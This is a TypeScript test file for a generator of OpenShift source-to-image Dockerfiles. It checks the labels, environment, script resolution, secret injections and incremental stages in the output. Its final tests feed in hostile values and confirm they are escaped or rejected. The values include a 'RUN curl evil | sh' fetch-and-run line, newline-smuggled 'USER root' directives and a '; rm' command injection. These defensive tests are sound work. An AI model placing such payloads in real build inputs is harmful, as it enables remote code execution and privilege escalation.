import { parseDockerfile } from '../dockerfile/parse-dockerfile.js';
import { generateS2iDockerfile } from './generate-s2i-dockerfile.js';
import { type ScriptsInput, resolveScripts } from './resolve-scripts.js';
import type { S2iDockerfileInput } from './s2i-dockerfile-input.js';

const IMG = 'docker.io/centos/nodejs-8-centos7';

function scripts(
  input: Partial<ScriptsInput> = {},
): Pick<S2iDockerfileInput, 'scripts' | 'imageScriptsDir'> {
  const r = resolveScripts({ fetchedFromScriptsUrl: [], inSource: [], ...input });
  if (!r.ok) {
    throw new Error(r.message);
  }
  return { scripts: r.scripts, imageScriptsDir: r.imageScriptsDir };
}

function anInput(overrides: Partial<S2iDockerfileInput> = {}): S2iDockerfileInput {
  return {
    builderImage: IMG,
    assembleUser: '1001',
    ...scripts(),
    buildInfo: { name: 'app-1', namespace: 'proj' },
    sourceEnvironment: [],
    env: [],
    imageLabels: [],
    injections: [],
    chownMode: 'copy-chown',
    ...overrides,
  };
}

const HEAD = `FROM ${IMG}\nLABEL "io.openshift.build.image"="${IMG}"\nENV OPENSHIFT_BUILD_NAME="app-1" \\\n    OPENSHIFT_BUILD_NAMESPACE="proj"`;
const ASSEMBLE_FROM_IMAGE = (dir: string): string =>
  `# Assemble script sourced from builder image based on user input or image metadata.\n# If this file does not exist in the image, the build will fail.\nRUN ${dir}/assemble`;
const RUN_FROM_IMAGE = (dir: string): string =>
  `# Run script sourced from builder image based on user input or image metadata.\n# If this file does not exist in the image, the build will fail.\nCMD ${dir}/run`;

function generate(input: S2iDockerfileInput): string {
  const text = generateS2iDockerfile(input);
  expect(parseDockerfile(text).stages.length).toBeGreaterThan(0);
  return text;
}

describe(generateS2iDockerfile.name, () => {
  describe('upstream dockerfile_test.go golden cases', () => {
    it('writes the plain build in copy-chown mode (TestDockerfileBuild, variant B)', () => {
      expect(generate(anInput())).toBe(
        `${HEAD}\n# Copying in source code\nCOPY --chown=1001:0 upload/src /tmp/src\nUSER 1001\n${ASSEMBLE_FROM_IMAGE('/usr/libexec/s2i')}\n${RUN_FROM_IMAGE('/usr/libexec/s2i')}\n`,
      );
    });

    it('writes the plain build in run mode (TestDockerfileBuild, variant A / reference 2.7)', () => {
      const out = generate(
        anInput({
          chownMode: 'run',
          builderImage: 'registry.example/openshift/nodejs@sha256:aaa',
          buildInfo: {
            name: 'app-3',
            namespace: 'proj',
            git: { uri: 'https://github.com/sclorg/nodejs-ex.git', ref: 'main' },
            commit: { id: 'c0ffee', location: 'https://github.com/sclorg/nodejs-ex.git' },
          },
          env: [{ name: 'NPM_MIRROR', value: ' https://m ' }],
        }),
      );
      expect(out).toBe(
        [
          'FROM registry.example/openshift/nodejs@sha256:aaa',
          'LABEL "io.openshift.build.commit.id"="c0ffee" \\',
          '      "io.openshift.build.commit.ref"="main" \\',
          '      "io.openshift.build.image"="registry.example/openshift/nodejs@sha256:aaa" \\',
          '      "io.openshift.build.source-location"="https://github.com/sclorg/nodejs-ex.git"',
          'ENV OPENSHIFT_BUILD_NAME="app-3" \\',
          '    OPENSHIFT_BUILD_NAMESPACE="proj" \\',
          '    OPENSHIFT_BUILD_SOURCE="https://github.com/sclorg/nodejs-ex.git" \\',
          '    OPENSHIFT_BUILD_REFERENCE="main" \\',
          '    OPENSHIFT_BUILD_COMMIT="c0ffee" \\',
          '    NPM_MIRROR="https://m"',
          'USER root',
          '# Copying in source code',
          'COPY upload/src /tmp/src',
          '# Change file ownership to the assemble user. Builder image must support chown command.',
          'RUN chown -R 1001:0 /tmp/src',
          'USER 1001',
          ASSEMBLE_FROM_IMAGE('/usr/libexec/s2i'),
          RUN_FROM_IMAGE('/usr/libexec/s2i'),
          '',
        ].join('\n'),
      );
    });

    it('writes env pairs after .s2i/environment (TestDockerfileBuildEnv)', () => {
      const out = generate(
        anInput({
          sourceEnvironment: [{ name: 'FROM_SRC', value: '1' }],
          env: [
            { name: 'key1', value: 'value1' },
            { name: 'key2', value: 'value2' },
          ],
        }),
      );
      expect(out).toContain(
        'ENV FROM_SRC="1" \\\n    OPENSHIFT_BUILD_NAME="app-1" \\\n    OPENSHIFT_BUILD_NAMESPACE="proj" \\\n    key1="value1" \\\n    key2="value2"\n',
      );
    });

    it('writes scripts-url, destination and overriding image labels (TestDockerfileBuildLabels)', () => {
      const out = generate(
        anInput({
          ...scripts({ scriptsUrl: 'image:///scripts' }),
          scriptsUrl: 'image:///scripts',
          destination: '/destination',
          buildInfo: {
            name: 'app-1',
            namespace: 'proj',
            commit: { authorName: 'A', authorEmail: 'a@x' },
          },
          imageLabels: [
            { name: 'label1', value: 'value1' },
            { name: 'label2', value: 'value2' },
            { name: 'io.openshift.build.commit.author', value: 'shadowman' },
          ],
        }),
      );
      expect(out.split('\nENV')[0]).toBe(
        [
          `FROM ${IMG}`,
          'LABEL "io.openshift.build.commit.author"="shadowman" \\',
          `      "io.openshift.build.image"="${IMG}" \\`,
          '      "io.openshift.s2i.destination"="/destination" \\',
          '      "io.openshift.s2i.scripts-url"="image:///scripts" \\',
          '      "label1"="value1" \\',
          '      "label2"="value2"',
        ].join('\n'),
      );
      expect(out).toContain('RUN /scripts/assemble\n');
    });

    const injections: S2iDockerfileInput['injections'] = [
      {
        source: '/var/run/secrets/openshift.io/build/s1',
        destination: 'injection1',
        keep: false,
        files: ['injectfile-1', 'sub/injectfile-2'],
      },
      {
        source: '/var/run/configs/openshift.io/build/c1',
        destination: '/destination/injection2',
        keep: true,
        files: ['cfg'],
      },
    ];
    it('copies injections, removes secret files and keeps configmaps (TestDockerfileBuildInjections, variant B)', () => {
      expect(generate(anInput({ injections, imageWorkDir: '/workdir' }))).toBe(
        `${HEAD}\n# Copying in source code\nCOPY --chown=1001:0 upload/src /tmp/src\n# Copying in injected content\n` +
          'COPY --chown=1001:0 upload/injections/var/run/secrets/openshift.io/build/s1 /workdir/injection1\n' +
          'COPY --chown=1001:0 upload/injections/var/run/configs/openshift.io/build/c1 /destination/injection2\n' +
          `USER 1001\n${ASSEMBLE_FROM_IMAGE('/usr/libexec/s2i')}\n# Cleaning up injected secret content\n` +
          'RUN rm /workdir/injection1/injectfile-1 && \\\n    rm /workdir/injection1/sub/injectfile-2\n' +
          `${RUN_FROM_IMAGE('/usr/libexec/s2i')}\n`,
      );
    });

    it('chowns injections with the rest in run mode (TestDockerfileBuildInjections, variant A)', () => {
      const out = generate(anInput({ injections, chownMode: 'run' }));
      expect(out).toContain(
        'COPY upload/injections/var/run/secrets/openshift.io/build/s1 /opt/app-root/src/injection1\n',
      );
      expect(out).toContain(
        'RUN chown -R 1001:0 /tmp/src /opt/app-root/src/injection1 /destination/injection2\n',
      );
      expect(out).not.toContain('rm -rf /destination/injection2');
    });

    const OVERRIDE = (dest: string, chown = '--chown=1001:0 '): string =>
      `# Copying in override assemble/run scripts\nCOPY ${chown}upload/scripts ${dest}/scripts\n`;
    const withScripts = (s: Partial<ScriptsInput>, dest = '/destination'): string =>
      generate(
        anInput({ ...scripts(s), destination: dest, buildInfo: { name: '', namespace: '' } }),
      );
    const SHORT_HEAD = `FROM ${IMG}\nLABEL "io.openshift.build.image"="${IMG}" \\\n      "io.openshift.s2i.destination"="/destination"\nENV OPENSHIFT_BUILD_NAME="" \\\n    OPENSHIFT_BUILD_NAMESPACE=""\n`;
    const SRC =
      '# Copying in source code\nCOPY --chown=1001:0 upload/src /destination/src\nUSER 1001\n';

    const scriptCases: [string, Partial<ScriptsInput>, string][] = [
      [
        '6 ScriptsURL assemble',
        { scriptsUrl: 'file:///s', fetchedFromScriptsUrl: ['assemble'] },
        `${OVERRIDE('/destination')}${SRC}RUN /destination/scripts/assemble\n${RUN_FROM_IMAGE('/usr/libexec/s2i')}\n`,
      ],
      [
        '7 ScriptsURL run',
        { scriptsUrl: 'file:///s', fetchedFromScriptsUrl: ['run'] },
        `${OVERRIDE('/destination')}${SRC}${ASSEMBLE_FROM_IMAGE('/usr/libexec/s2i')}\nCMD /destination/scripts/run\n`,
      ],
      [
        '9 source assemble',
        { inSource: ['assemble'] },
        `${OVERRIDE('/destination')}${SRC}RUN /destination/scripts/assemble\n${RUN_FROM_IMAGE('/usr/libexec/s2i')}\n`,
      ],
      [
        '10 source run',
        { inSource: ['run'] },
        `${OVERRIDE('/destination')}${SRC}${ASSEMBLE_FROM_IMAGE('/usr/libexec/s2i')}\nCMD /destination/scripts/run\n`,
      ],
      [
        '11 image:// ScriptsURL beats source',
        { scriptsUrl: 'image:///usr/custom/s2i', inSource: ['assemble'] },
        `${SRC}${ASSEMBLE_FROM_IMAGE('/usr/custom/s2i')}\n${RUN_FROM_IMAGE('/usr/custom/s2i')}\n`,
      ],
      [
        '12 ImageScriptsURL assemble',
        { imageScriptsUrl: 'file:///i', fetchedFromImageScriptsUrl: ['assemble'] },
        `${OVERRIDE('/destination')}${SRC}RUN /destination/scripts/assemble\n${RUN_FROM_IMAGE('/usr/libexec/s2i')}\n`,
      ],
      [
        '13 ImageScriptsURL run',
        { imageScriptsUrl: 'file:///i', fetchedFromImageScriptsUrl: ['run'] },
        `${OVERRIDE('/destination')}${SRC}${ASSEMBLE_FROM_IMAGE('/usr/libexec/s2i')}\nCMD /destination/scripts/run\n`,
      ],
      [
        '14 source beats image:// ImageScriptsURL',
        { imageScriptsUrl: 'image:///usr/custom/s2i', inSource: ['assemble'] },
        `${OVERRIDE('/destination')}${SRC}RUN /destination/scripts/assemble\n${RUN_FROM_IMAGE('/usr/custom/s2i')}\n`,
      ],
      [
        '15 ScriptsURL and image URL',
        {
          scriptsUrl: 'file:///s',
          fetchedFromScriptsUrl: ['assemble'],
          imageScriptsUrl: 'image:///usr/some/dir',
        },
        `${OVERRIDE('/destination')}${SRC}RUN /destination/scripts/assemble\n${RUN_FROM_IMAGE('/usr/some/dir')}\n`,
      ],
      [
        '16 both file URLs',
        {
          scriptsUrl: 'file:///s',
          fetchedFromScriptsUrl: ['assemble'],
          imageScriptsUrl: 'file:///i',
          fetchedFromImageScriptsUrl: ['assemble'],
        },
        `${OVERRIDE('/destination')}${SRC}RUN /destination/scripts/assemble\n${RUN_FROM_IMAGE('/usr/libexec/s2i')}\n`,
      ],
    ];
    it.each(scriptCases)('resolves scripts for case %s', (_name, input, body) => {
      expect(withScripts(input)).toBe(SHORT_HEAD + body);
    });

    const INCREMENTAL_MAIN = (chown: string): string =>
      `COPY ${chown}--from=cached /tmp/artifacts.tar /tmp/artifacts.tar\n`;
    const EXTRACT = (dest: string): string =>
      `# Extract artifact content\nRUN if [ -s /tmp/artifacts.tar ]; then mkdir -p ${dest}/artifacts; tar -xf /tmp/artifacts.tar -C ${dest}/artifacts; fi && \\\n    rm /tmp/artifacts.tar\n`;

    it('adds the cached stage with the image save-artifacts (TestDockerfileIncrementalBuild, variant B)', () => {
      expect(generate(anInput({ incremental: { fromImage: 'test:tag' } }))).toBe(
        'FROM test:tag as cached\n# Save-artifacts script sourced from builder image based on user input or image metadata.\nUSER 1001\n' +
          'RUN if [ -s /usr/libexec/s2i/save-artifacts ]; then /usr/libexec/s2i/save-artifacts > /tmp/artifacts.tar; else touch /tmp/artifacts.tar; fi\n' +
          `${HEAD}\n${INCREMENTAL_MAIN('--chown=1001:0 ')}# Copying in source code\nCOPY --chown=1001:0 upload/src /tmp/src\nUSER 1001\n${EXTRACT('/tmp')}` +
          `${ASSEMBLE_FROM_IMAGE('/usr/libexec/s2i')}\n${RUN_FROM_IMAGE('/usr/libexec/s2i')}\n`,
      );
    });

    it('adds the cached stage in run mode with assemble user 2250 (TestDockerfileIncrementalAssembleUser, variant A)', () => {
      expect(
        generate(
          anInput({
            incremental: { fromImage: 'incremental:tag' },
            assembleUser: '2250',
            chownMode: 'run',
          }),
        ),
      ).toBe(
        'FROM incremental:tag as cached\n# Save-artifacts script sourced from builder image based on user input or image metadata.\nUSER 2250\n' +
          'RUN if [ -s /usr/libexec/s2i/save-artifacts ]; then /usr/libexec/s2i/save-artifacts > /tmp/artifacts.tar; else touch /tmp/artifacts.tar; fi\n' +
          `${HEAD}\nUSER root\n${INCREMENTAL_MAIN('')}# Copying in source code\nCOPY upload/src /tmp/src\n` +
          '# Change file ownership to the assemble user. Builder image must support chown command.\nRUN chown -R 2250:0 /tmp/artifacts.tar /tmp/src\n' +
          `USER 2250\n${EXTRACT('/tmp')}${ASSEMBLE_FROM_IMAGE('/usr/libexec/s2i')}\n${RUN_FROM_IMAGE('/usr/libexec/s2i')}\n`,
      );
    });

    const saveOverrides: [string, Partial<ScriptsInput>][] = [
      ['source', { inSource: ['save-artifacts'] }],
      ['ScriptsURL', { scriptsUrl: 'file:///s', fetchedFromScriptsUrl: ['save-artifacts'] }],
    ];
    it.each(saveOverrides)(
      'copies an override save-artifacts from %s into the cached stage (TestDockerfileIncrementalSourceSave/SaveURL, variant B)',
      (_n, s) => {
        const out = generate(
          anInput({
            ...scripts(s),
            destination: '/destination',
            incremental: { fromImage: 'test:tag' },
          }),
        );
        expect(out.split(`FROM ${IMG}`)[0]).toBe(
          'FROM test:tag as cached\n# Copying in override save-artifacts script\n' +
            'COPY --chown=1001:0 upload/scripts/save-artifacts /destination/scripts/save-artifacts\nUSER 1001\n' +
            'RUN if [ -s /destination/scripts/save-artifacts ]; then /destination/scripts/save-artifacts > /tmp/artifacts.tar; else touch /tmp/artifacts.tar; fi\n',
        );
        expect(out).toContain(
          `USER 1001\n${EXTRACT('/destination')}${ASSEMBLE_FROM_IMAGE('/usr/libexec/s2i')}\n${RUN_FROM_IMAGE('/usr/libexec/s2i')}\n`,
        );
        expect(out).toContain(OVERRIDE('/destination'));
      },
    );

    it('copies an override save-artifacts as root then chowns it in run mode (TestDockerfileIncrementalSourceSave, variant A)', () => {
      const out = generate(
        anInput({
          ...scripts({ inSource: ['save-artifacts'] }),
          destination: '/destination',
          incremental: { fromImage: 'test:tag' },
          chownMode: 'run',
        }),
      );
      expect(out.split(`FROM ${IMG}`)[0]).toBe(
        'FROM test:tag as cached\n# Copying in override save-artifacts script\nUSER root\n' +
          'COPY upload/scripts/save-artifacts /destination/scripts/save-artifacts\nRUN chown 1001:0 /destination/scripts/save-artifacts\nUSER 1001\n' +
          'RUN if [ -s /destination/scripts/save-artifacts ]; then /destination/scripts/save-artifacts > /tmp/artifacts.tar; else touch /tmp/artifacts.tar; fi\n',
      );
      expect(out).toContain(
        'RUN chown -R 1001:0 /tmp/artifacts.tar /destination/scripts /destination/src\n',
      );
    });
  });

  describe('own cases', () => {
    it('writes an empty line instead of ENV when there are no variables and omits USER for root', () => {
      const input = anInput({ assembleUser: 'root', chownMode: 'run' });
      const out = generate({
        ...input,
        buildInfo: { name: '', namespace: '' },
        sourceEnvironment: [],
        env: [],
      }).split('\n');
      expect(out.slice(0, 4)).toEqual([
        `FROM ${IMG}`,
        `LABEL "io.openshift.build.image"="${IMG}"`,
        'ENV OPENSHIFT_BUILD_NAME="" \\',
        '    OPENSHIFT_BUILD_NAMESPACE=""',
      ]);
      expect(out.filter((l) => l.startsWith('USER'))).toEqual(['USER root']);
    });

    it('escapes $, quotes, backslashes and newlines in env values so nothing is expanded or injected', () => {
      const evil = 'a$HOME"\\\nUSER root\r';
      const out = generate(
        anInput({
          env: [{ name: 'X', value: evil }],
          sourceEnvironment: [{ name: 'Y', value: evil }],
        }),
      );
      expect(out).toContain('Y="a\\$HOME\\"\\\\\\nUSER root\\r" \\\n');
      expect(out).toContain('X="a\\$HOME\\"\\\\\\nUSER root"\n');
      expect(
        parseDockerfile(out).stages[0]?.body.filter(
          (n) => n.kind === 'instruction' && n.keyword === 'USER',
        ),
      ).toHaveLength(1);
    });

    it('keeps hostile label values and commit messages on their line', () => {
      const evil = 'm"\nRUN curl evil | sh\n';
      const out = generate(
        anInput({
          buildInfo: { name: 'b', namespace: 'n', commit: { message: evil, authorName: evil } },
          imageLabels: [{ name: evil, value: evil }],
        }),
      );
      const runs = parseDockerfile(out).stages[0]?.body.filter(
        (n) => n.kind === 'instruction' && n.keyword === 'RUN',
      );
      expect(runs?.map((r) => (r.kind === 'instruction' ? r.args : ''))).toEqual([
        '/usr/libexec/s2i/assemble',
      ]);
      expect(out).toContain('"io.openshift.build.commit.message"="m\\"\\nRUN curl evil | sh\\n"');
    });

    it.each([
      ['builder image', { builderImage: 'img\nUSER root' }],
      ['incremental image', { incremental: { fromImage: 'x y' } }],
      ['env name', { env: [{ name: 'A B', value: '1' }] }],
      ['destination', { destination: '/tmp \\' }],
      ['assemble user', { assembleUser: '1001\nUSER 0' }],
      [
        'injection destination',
        { injections: [{ source: '/s', destination: '/d; rm', keep: false, files: [] }] },
      ],
    ] as [string, Partial<S2iDockerfileInput>][])('refuses an unsafe %s', (_name, overrides) => {
      expect(() => generateS2iDockerfile(anInput(overrides))).toThrow();
    });
  });
});
